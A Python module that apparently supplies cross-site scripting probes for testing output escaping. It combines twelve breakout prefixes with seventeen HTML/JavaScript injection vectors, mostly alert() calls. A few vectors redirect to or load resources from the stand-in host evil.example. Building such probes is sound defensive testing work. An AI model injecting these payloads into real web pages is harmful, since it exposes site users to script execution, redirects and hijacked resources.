"""Text that is more than text where an output takes it for markup; it leaves a mark there."""

MARK = "data-owned"
_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</textarea>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "`>",
    "\\u003e",
)
_VECTORS = (
    "<script data-owned>alert(1)</script>",
    "<img data-owned src=x onerror=alert(2)>",
    "<svg data-owned onload=alert(3)>",
    "<svg><script data-owned>alert(4)</script></svg>",
    "<iframe data-owned srcdoc='<script>alert(5)</script>'>",
    "<a data-owned href=javascript:alert(6)>x</a>",
    "<base data-owned href=//evil.example/>",
    "<meta data-owned http-equiv=refresh content='0;//evil.example'>",
    "<link data-owned rel=stylesheet href=//evil.example/x>",
    "<form data-owned action=javascript:alert(7)><input autofocus>",
    "<object data-owned data=javascript:alert(8)>",
    "<style data-owned>@import '//evil.example/y';</style>",
    "<details data-owned open ontoggle=alert(9)>",
    "<p data-owned style=animation:x onanimationstart=alert(10)>",
    '" onfocus=alert(11) autofocus data-owned="',
    "<script data-owned xmlns='http://www.w3.org/1999/xhtml'>alert(12)</script>",
    "<math><mtext data-owned><img src=x onerror=alert(13)></mtext></math>",
)
PAYLOADS = tuple(breakout + vector for vector in _VECTORS for breakout in _BREAKOUTS)


def in_groups(size: int) -> list[tuple[str, ...]]:
    """All of them, so many at a time."""
    return [PAYLOADS[start : start + size] for start in range(0, len(PAYLOADS), size)]
